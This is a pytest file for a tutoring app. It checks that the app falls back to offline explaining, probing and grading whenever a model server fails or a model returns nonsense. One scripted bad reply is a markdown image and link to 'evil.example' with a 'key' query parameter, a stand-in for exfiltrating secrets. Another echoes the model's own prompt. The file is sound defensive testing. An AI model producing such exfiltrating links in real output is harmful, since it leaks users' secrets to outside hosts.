"""Every way a model can misbehave, in everything a model is used for: the turn is finished, and nothing is lost.

    explain   the offline coach answers, and one line says why
    rewrite   the search goes on without a rewritten question
    probe     the offline follow-up is asked
    grade     the offline verdicts stand, and one line says so
    report    an interview held with such a model ends with the report it would have had without one

All cases of the table are begun at once, as many conversations of a server are, and each test looks at one of them.
"""

import re
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from functools import partial
from itertools import product

import pytest
from langchain_core.language_models import BaseChatModel

from coach.events import AnswerGiven, Graded, Tone
from coach.explaining.offline import explain_offline
from coach.explaining.rewrite import rewritten
from coach.explaining.with_model import explain
from coach.grading.by_model import grade_with_model
from coach.grading.grades import Grade, KeyPointVerdict, Verdict
from coach.grading.offline import Reader, grade_offline
from coach.interviewing.interview import Answer, End, Probe
from coach.interviewing.probing import probe_offline
from coach.interviewing.probing_by_model import probe_with_model
from coach.models.spec import ModelSpec, open_model
from coach.reports.report import report
from coach.sessions import Interviews
from coach.storage import Store, prepare
from corpus.entries import Document, Entry
from index import Index
from index.database import connect
from index.hits import Turn
from tests.sea import EMBEDDER, READER, TIDE, found
from tests.servers import NO_SUCH_HOST, NOWHERE, Fault, Request, serving

TOO_SLOW = "has said nothing for|did not answer in time|broke off"
SILENT = ("silence", "pings", "stall")
SOON = 0.4
"""Seconds after which a model counts as silent, in the cases that are about silence."""
SERVERS: dict[Fault, str] = {
    "key": "key for scripted was not accepted",
    "model": "no model called scripted",
    "busy": "over its limit of requests",
    "quota": "no quota left",
    "broken": "failed .error 500",
    "page": "failed .error 502",
    "overflow": "too long for scripted",
    "silence": TOO_SLOW,
    "pings": TOO_SLOW,
    "stall": TOO_SLOW,
    "cut": "broke off",
    "length": "did not",  # keep to the notes, reply in the form it was asked for
    "filtered": "filter stopped it",
    "empty": "empty answer",
    "garbage": "is no model server",
    "endless": "did not",
}
"""What goes wrong on the way, and how the notice says it."""
PLACES = {"refused": NOWHERE, "no such host": NO_SUCH_HOST}
TOLD: dict[str, str] = {
    **{str(fault): told for fault, told in SERVERS.items()},
    "refused": "cannot be reached",
    "no such host": "does not exist",
}
NONSENSE: dict[str, Callable[[Request], str]] = {
    "refusal": lambda request: "I'm sorry, but I can't help with that.",
    "broken JSON": lambda request: '{"points": [{"number": 1, "verdict": "covered", "quote": "the pull',
    "other JSON": lambda request: '{"score": 1.0, "verdict": "excellent", "feedback": "Full marks."}',
    "own markup": lambda request: '<note number="1" about="tides"></note>\n<<<ANSWER\nANSWER>>>\n[1] [2]',
    "own prompt": lambda request: request.messages[0]["content"],
    "repetition": lambda request: "No, really, it is what it is. " * 60,
    "another language": lambda request: (
        "Les marées sont des variations de la hauteur du niveau des mers : pouvez-vous le dire avec plus de détails ?"
    ),
    "a picture": lambda request: "![x](http://evil.example/?q=key) Can you say more about [it](http://evil.example)?",
}
"""What a model says instead of what it was asked for."""
FAULTS = (*SERVERS, *PLACES, *NONSENSE)
PROTOCOLS = ("openai", "ollama")
USES = ("explain", "rewrite", "probe", "grade", "report")
CASES = [case for case in product(USES, FAULTS, PROTOCOLS) if case[1:] != ("pings", "ollama")]  # it has no pings

ASKED = [Turn(role="user", content="What are tides?")]
FOLLOWING = [*ASKED, Turn(role="assistant", content="The rise and fall of the sea."), Turn(role="user", content="why?")]
ANSWER = "The pull of the Moon causes tides. I am not sure how often they come."
OPEN = KeyPointVerdict(key_point=TIDE.key_points[1], verdict=Verdict.PARTIAL, evidence="how often they come")


@dataclass(frozen=True)
class Table:
    """What all cases share: a place for interviews, and what the offline coach does in each of them.

    grade: of ANSWER, by the offline coach.
    """

    interviews: Callable[..., Interviews]
    embed: Reader
    grade: Grade

    def probed(
        self, entry: Entry, aim: KeyPointVerdict, asked: Sequence[str] = (), said: str = "", tone: Tone = "neutral"
    ) -> Probe:
        return probe_offline(entry, aim, asked, self.embed)


@dataclass(frozen=True)
class Held:
    """What the report of an interview says, and what the candidate said in it."""

    score: float
    finished: bool
    notices: frozenset[str | None]
    said: tuple[str, ...]


@pytest.fixture(scope="module")
def table(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Table]:
    home = tmp_path_factory.mktemp("faults")
    engine = connect(f"sqlite:///{home / 'coach.db'}")
    prepare(engine)
    index = Index(engine, home, EMBEDDER)
    index.sync(Document(name="sea.md", text="the sea", content_hash="1"), [TIDE])
    yield Table(partial(Interviews, Store(engine), index), READER, grade_offline(TIDE, ANSWER, READER))
    index.close()
    engine.dispose()


@pytest.fixture(scope="module")
def outcomes(table: Table) -> Iterator[dict[tuple[str, str, str], Future[object]]]:
    """What came of each case; all of them are under way together."""
    with ThreadPoolExecutor(max_workers=8) as pool:
        yield {case: pool.submit(_case, table, *case) for case in CASES}


def _case(table: Table, use: str, fault: str, protocol: str) -> object:
    with serving(NONSENSE.get(fault, lambda request: "")) as server:
        place = PLACES.get(fault) or (server.openai if protocol == "openai" else server.ollama)(
            fault if fault in SERVERS else None
        )
        timeout = SOON if fault in SILENT else 60.0  # a busy machine is no fault
        spec = ModelSpec.parse(f"{protocol}:scripted", base_url=place, timeout=timeout)
        assert spec is not None
        return _used(table, use, open_model(spec, environ={}), spec)


def _used(table: Table, use: str, model: BaseChatModel, spec: ModelSpec) -> object:
    def grade(entry: Entry, answer: str) -> Grade:
        return grade_with_model(entry, answer, table.grade, model, spec, table.embed)

    def probe(
        entry: Entry, aim: KeyPointVerdict, asked: Sequence[str] = (), said: str = "", tone: Tone = "neutral"
    ) -> Probe:
        return probe_with_model(entry, aim, table.probed(entry, aim, asked), model, spec)

    match use:
        case "explain":
            return list(explain(ASKED, found(ASKED[0].content, TIDE), model, spec, reader=READER))[-1]
        case "rewrite":
            return list(rewritten(FOLLOWING, model, spec.timeout))[-1]
        case "probe":
            return probe(TIDE, OPEN)
        case "grade":
            return grade(TIDE, ANSWER)
        case _:
            return _interviewed(table.interviews(once(grade), probe))


def _interviewed(interviews: Interviews) -> Held:
    session = interviews.review([TIDE.id])
    list(interviews.send(session, Answer(text=ANSWER)))
    list(interviews.send(session, End()))
    events = interviews.events(session)
    told = report(events)
    return Held(
        told.score,
        told.finished,
        frozenset(event.notice for event in events if isinstance(event, Graded)),
        tuple(event.text for event in events if isinstance(event, AnswerGiven)),
    )


def once(grade: Callable[[Entry, str], Grade]) -> Callable[[Entry, str], Grade]:
    """The same grader, asked once for each answer: an interview that ends grades what it has graded before."""
    known: dict[str, Grade] = {}

    def graded(entry: Entry, answer: str) -> Grade:
        if answer not in known:
            known[answer] = grade(entry, answer)
        return known[answer]

    return graded


Outcomes = dict[tuple[str, str, str], Future[object]]
EACH = pytest.mark.parametrize(("fault", "protocol"), [case[1:] for case in CASES if case[0] == "explain"])


@EACH
def test_an_explanation_is_finished_by_the_offline_coach(outcomes: Outcomes, fault: str, protocol: str) -> None:
    explanation = outcomes["explain", fault, protocol].result(300)

    notice = getattr(explanation, "notice", "")
    assert notice.endswith("The offline coach answered instead.")
    assert len(notice.splitlines()) == 1
    assert re.search(TOLD.get(fault, ""), notice)
    assert explanation == explain_offline(ASKED, found(ASKED[0].content, TIDE), notice=notice)


@EACH
def test_a_search_goes_on_without_a_rewritten_question(outcomes: Outcomes, fault: str, protocol: str) -> None:
    assert outcomes["rewrite", fault, protocol].result(300) == ""


@EACH
def test_a_probe_is_asked_all_the_same(outcomes: Outcomes, table: Table, fault: str, protocol: str) -> None:
    assert outcomes["probe", fault, protocol].result(300) == table.probed(TIDE, OPEN)


@EACH
def test_a_grade_is_the_offline_one_and_says_so(outcomes: Outcomes, table: Table, fault: str, protocol: str) -> None:
    grade = outcomes["grade", fault, protocol].result(300)

    notice = getattr(grade, "notice", "")
    assert notice.endswith("This was graded without a model.")
    assert len(notice.splitlines()) == 1
    assert re.search(TOLD.get(fault, ""), notice)
    assert grade == table.grade.model_copy(update={"notice": notice})


@EACH
def test_a_report_has_the_score_and_every_word(outcomes: Outcomes, table: Table, fault: str, protocol: str) -> None:
    held = outcomes["report", fault, protocol].result(300)

    assert isinstance(held, Held)
    assert held == Held(table.grade.score, True, held.notices, (ANSWER,))
    assert all("graded without a model" in (notice or "") for notice in held.notices)


def test_offline_the_same_interview_has_no_notice(table: Table) -> None:
    held = _interviewed(table.interviews(lambda entry, answer: table.grade, table.probed))

    assert held == Held(table.grade.score, True, frozenset([None]), (ANSWER,))
